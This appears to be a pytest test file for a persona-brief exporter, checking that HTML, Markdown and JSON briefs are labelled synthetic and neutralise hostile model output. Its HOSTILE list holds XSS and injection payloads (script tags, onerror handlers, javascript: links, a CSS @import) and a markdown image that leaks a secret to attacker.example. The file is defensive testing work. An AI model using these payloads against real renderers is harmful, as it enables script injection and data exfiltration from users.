"""Persona briefs: labelled synthetic, evidence badges, hostile model output neutralised."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import pytest

from persona.brief import avatar_svg, export_brief, render_html, render_json, render_markdown
from persona.generate import generate_personas
from persona.personas import StoredPersona, edit_persona, get_persona
from persona.services import Services
from tests.generate.conftest import add_segments, profile, reply, script

EXFIL = "![x](https://attacker.example/leak?q=secret)"
HOSTILE = [
    "<script>alert('pwned')</script>",
    "<img src=x onerror=alert(1)>",
    EXFIL,
    "[win a prize](javascript:alert(1))",
    "<a href='https://attacker.example'>click</a>",
    "<style>@import url(https://attacker.example/x.css)</style>",
]


def _stored(services: Services, *, hostile: bool = False) -> StoredPersona:
    add_segments(services, [profile(0, label="Families <b>on a budget</b>")])
    script(services, reply())
    [result] = generate_personas(services)
    persona_id = result.persona_id or 0
    if hostile:
        # Edits bypass the generation checks, like a model that was never validated.
        edit_persona(services, persona_id, "name", "<script>alert(1)</script>Eve")
        edit_persona(services, persona_id, "background", " ".join(HOSTILE))
        edit_persona(services, persona_id, "goals", HOSTILE)
        edit_persona(services, persona_id, "quote", EXFIL)
    return get_persona(services, persona_id)


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.styles: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        if self.tags and self.tags[-1] == "style":
            self.styles.append(data)


def test_html_brief_is_standalone_labelled_and_inert(services: Services) -> None:
    stored = _stored(services, hostile=True)
    html = render_html(stored)
    assert "Synthetic persona" in html
    collector = _Collector()
    collector.feed(html)
    assert "script" not in collector.tags and "img" not in collector.tags
    assert "a" not in collector.tags and "link" not in collector.tags
    assert set(collector.tags) <= {
        "html", "head", "meta", "title", "style", "body", "div", "header", "svg", "rect",
        "path", "ellipse", "g", "circle", "h1", "h2", "p", "strong", "br", "blockquote",
        "span", "ul", "li", "table", "tr", "th", "td", "ol", "footer", "em",
    }  # fmt: skip
    assert not any(name.startswith("on") for name, _value in collector.attributes)
    # Nothing remote: no URL anywhere, and a policy that forbids loading anything.
    assert not re.search(r"(?i)https?:|//[a-z]|javascript:", html)
    assert not re.search(r"(?i)url\(|@import", "".join(collector.styles))
    assert "default-src 'none'" in html
    assert "&lt;script&gt;" in html  # shown as text, not run
    for kind in ("stat", "inferred", "user"):
        assert f"badge-{kind}" in html


def test_markdown_brief_neutralises_images_links_and_html(services: Services) -> None:
    stored = _stored(services, hostile=True)
    md = render_markdown(stored)
    assert md.startswith("# ") and "**Synthetic persona.**" in md
    assert "attacker.example" not in md and "javascript:" not in md
    assert not re.search(r"(?<!\\)!\[", md) and not re.search(r"(?<!\\)\]\(", md)
    assert not re.search(r"(?<!\\)<(script|img|a|style)", md)
    assert "`stat: age_median = 39`" in md and "`user`" in md and "`inferred`" in md


def test_json_brief_is_labelled_and_complete(services: Services) -> None:
    stored = _stored(services)
    data = json.loads(render_json(stored))
    assert data["synthetic"] is True and data["label"] == "Synthetic persona"
    assert data["persona"]["synthetic"] is True
    assert data["persona"]["facts"]["statistics"]["age_median"] == 39.0
    assert data["version"] == stored.version


def test_avatar_is_deterministic_and_drawn_from_traits(services: Services) -> None:
    stored = _stored(services)
    persona = stored.persona
    first = avatar_svg(persona)
    assert first == avatar_svg(persona.model_copy())
    assert first.startswith("<svg") and "http" not in first and "<text" not in first
    other = persona.model_copy(update={"name": "Jonas Weber"})
    older = persona.model_copy(
        update={"facts": persona.facts.model_copy(update={"statistics": {"age_median": 70}})}
    )
    assert avatar_svg(other) != first or avatar_svg(older) != first
    assert "#a8a8a8" in avatar_svg(older)  # grey hair from the segment's age


@pytest.mark.parametrize("fmt", ["md", "html", "json"])
def test_export_writes_a_file_named_by_id_not_by_model_output(services: Services, fmt: str) -> None:
    stored = _stored(services, hostile=True)
    path = export_brief(services, stored.id, fmt)  # type: ignore[arg-type]
    assert path == services.settings.exports_path / f"persona-{stored.id}-v{stored.version}.{fmt}"
    text = path.read_text(encoding="utf-8")
    assert "Synthetic persona" in text
    assert "Interview guide" in text or "interview_guide" in text
    assert not list(path.parent.glob(".*"))  # no temp files left behind
